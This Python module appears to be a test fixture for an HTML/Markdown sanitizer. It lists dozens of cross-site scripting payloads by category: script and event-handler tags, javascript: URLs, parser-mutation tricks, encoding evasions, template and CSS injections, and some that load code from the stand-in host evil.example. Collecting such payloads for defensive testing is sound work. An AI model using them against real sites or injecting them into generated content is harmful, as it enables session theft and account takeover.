"""What an attacker, or a careless copy from elsewhere, would put into a canon.

Whatever of it a browser should ever run calls `hit()`; whatever it loads lies at `evil.example`.
"""

HOSTILE_TEXTS = {
    # Elements.
    "scripts": "<script>hit()</script><SCRIPT SRC=//evil.example/a.js></SCRIPT><script/x>hit()//",
    "images": "<img src=x onerror=hit()><IMG SRC=\"x\" ONERROR=\"hit()\"><img/src='x'onerror='hit()'>",
    "drawings": "<svg onload=hit()><svg/onload=hit()><script>hit()</script><animate onbegin=hit()>",
    "frames": (
        "<iframe src=javascript:hit()></iframe><iframe srcdoc='<script>top.hit()</script>'></iframe>"
        "<object data=//evil.example/a></object><embed src=//evil.example/b><frameset>"
    ),
    "head": (
        "<base href=//evil.example/ target=_blank><link rel=stylesheet href=//evil.example/a.css>"
        "<meta http-equiv=refresh content='0;url=//evil.example'><meta charset=utf-7>"
        "<style>*{display:none}@import '//evil.example/b.css'</style>"
    ),
    "controls": (
        "<form action=//evil.example><input name=a autofocus onfocus=hit()><button formaction=x>"
        "<a href=javascript:hit() ping=//evil.example>a</a><details open ontoggle=hit()>"
    ),
    "media": (
        "<video poster=//evil.example><source src=x onerror=hit()><audio src=x onerror=hit()>"
        "<body onload=hit()><marquee onstart=hit()><b onclick=hit() style=color:red>"
    ),
    "raw": "<plaintext><xmp><listing><noembed><noframes><noscript><template><textarea><title>",
    # Ends of what a text may stand in.
    "quotes": '" onmouseover="hit()" autofocus tabindex="0" onfocus="hit()" a="',
    "apostrophes": "' onmouseover='hit()' autofocus tabindex='0' onfocus='hit()' a='",
    "unquoted": "x onmouseover=hit() autofocus tabindex=0 onfocus=hit()",
    "tag-ends": "\"><img src=x onerror=hit()><a title=\"'><img src=x onerror=hit()>",
    "raw-ends": (
        "</title></textarea></style></script></xmp></noembed></template></noscript></iframe>"
        "<script>hit()</script>"
    ),
    "pre-ends": "</pre></details><script>hit()</script><details><pre>",
    "block-ends": (
        "</a></p></h1></li></ul></dd></dl></span></td></tr></table></details></article></section>"
        "</main></body></html><script>hit()</script>"
    ),
    "comments": "--><script>hit()</script><!-- --!><img src=x onerror=hit()><!--> <!---><!--",
    "declarations": "]]><script>hit()</script><![CDATA[ ?><?a hit() ?> <!doctype html> <!ENTITY b 'c'>",
    "unfinished": "<img src=x onerror=hit() a='",
    "bracket": "<",
    # Trees that parsers read in two ways.
    "mutation-math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=hit()&gt;">'
    ),
    "mutation-drawing": '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    # Other ways to write a character.
    "entities": (
        "&lt;script&gt;hit()&lt;/script&gt; &#60;b&#62; &#x3c;b&#x3E; &lt &LT; &colon;&Tab;"
        " &amp;lt;b&amp;gt; &amp;amp;#60; & &; &#0; &#x110000;"
    ),
    "encodings": (
        "%3Cscript%3Ehit()%3C/script%3E %253Cb%253E \\u003cb\\u003e \\x3cb\\x3e \\74b"
        " +ADw-script+AD4-hit()+ADw-/script+AD4- ＜script＞hit()＜/script＞ ＂onload＝hit()＂"
    ),
    "combining": '<\u0338script>\u0338hit()</\u0338script> "\u0301 onfocus=hit() &\u0301lt; \\\u0301',
    # Addresses.
    "schemes": (
        "javascript:hit() JaVaScRiPt:hit() java\tscript:hit() vbscript:hit()"
        " data:text/html,<script>hit()</script> data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=="
    ),
    "addresses": "//evil.example https://evil.example www.evil.example a@evil.example \\\\evil.example",
    # Markdown.
    "links": '[a](javascript:hit()) ![b](//evil.example/b "onload=hit()") [c][d] [e](<x> \'f\')',
    "autolinks": "<javascript:hit()> <https://evil.example> <a@evil.example> <data:text/html,a>",
    "definition": '[core]: javascript:hit() "a"',
    "fence": "```html <script>hit()</script> ``` ~~~ `` ` ``",
    "cells": "| <b>a</b> | \\| <script>hit()</script> | --- |",
    "heading": "# <img src=x onerror=hit()> # ===",
    "item": "- <div onclick=hit()> - [ ] > 1. ***",
    # Templates, scripts and style sheets.
    "mustache": "{{{canon.name}}} {{&name}} {{> place}} {{#levels}} {{/levels}} {{! a }} {{=<% %>=}}",
    "names": (
        "__proto__ constructor null undefined NaN true ~ 0 $& $1 \\1 %s `${hit()}` #{hit()} <%= hit() %>"
        " ';hit();// \";hit();// \\';hit();//"
    ),
    "codes": (
        "a.b${hit()}c a.b`;hit();String.raw`c a.b`);hit();(`c a.b\";hit();\"c a.b\\ \\a.b c.d\\`${hit()}e"
        " f=g.h=i <j.k l.m\\u{n"
    ),
    "style": "url(javascript:hit()) expression(hit()) @import url(//evil.example); } */ /* -->",
    "style-string": '"} *{background:url(//evil.example/a)} .a::after{content:"',
    "style-escapes": '\\"} *{background:url(//evil.example/a)} \\a \\22 \\0 \\110000',
    "backslash": "\\",
    # Characters that are not seen, or turn the text about.
    "unseen": "a\u2028hit()\u2029<b> java\u200bscript:hit() <\u200dscript>hit()</script\ufeff>",
    "overrides": "\u202eevil \u202d\u2067\u202bturned",
    "isolates": "\u2069\u2069\u202c\u202c \u2066\u2067 \u200f\u061c\u200e",
}

# All of them in one value, a line each.
EVERYTHING = "\n".join(HOSTILE_TEXTS.values())
